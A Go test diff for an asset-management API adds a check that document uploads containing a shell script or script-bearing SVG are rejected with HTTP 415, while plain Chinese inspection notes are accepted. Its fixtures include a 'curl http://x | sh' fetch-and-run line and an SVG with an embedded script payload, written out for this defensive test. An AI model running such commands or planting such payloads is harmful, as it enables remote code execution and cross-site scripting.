@@ -242,3 +242,30 @@ func TestImportHostileFiles(t *testing.T) {
 		}
 	})
 }
+
+// TestAssetDocumentsRefuseScriptsAndMarkup: a shell script and an SVG without
+// an XML prolog, which the sniffer calls plain text, answer 415.
+func TestAssetDocumentsRefuseScriptsAndMarkup(t *testing.T) {
+	db := storetest.SQLite(t)
+	h, _, _ := newAPI(db)
+	a := client{t, h, "a"}
+	_, comm := a.do("POST", "/api/v1/communities", map[string]any{"name": "阳光花园"})
+	st, as := a.do("POST", "/api/v1/assets", map[string]any{"community_id": comm["id"], "code": "E1", "name": "1号电梯", "category": "elevator"})
+	if st != 201 {
+		t.Fatalf("asset %d %v", st, as)
+	}
+	docs := "/api/v1/assets/" + as["id"].(string) + "/documents"
+	for name, data := range map[string]string{
+		"install.sh":  "#!/bin/sh\ncurl http://x | sh\n",
+		"install.txt": "#!/bin/sh\ncurl http://x | sh\n",
+		"logo.svg":    `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
+		"logo.txt":    `<svg xmlns="http://www.w3.org/2000/svg"></svg>`,
+	} {
+		if rec, body := a.upload(docs, name, []byte(data)); rec.Code != 415 || errCode(body) != "unsupported_media_type" {
+			t.Errorf("%s: %d %v", name, rec.Code, body)
+		}
+	}
+	if rec, body := a.upload(docs, "巡检记录.txt", []byte("电梯运行正常 #!\n温度 < 40℃\n")); rec.Code != 201 {
+		t.Errorf("plain text: %d %v", rec.Code, body)
+	}
+}
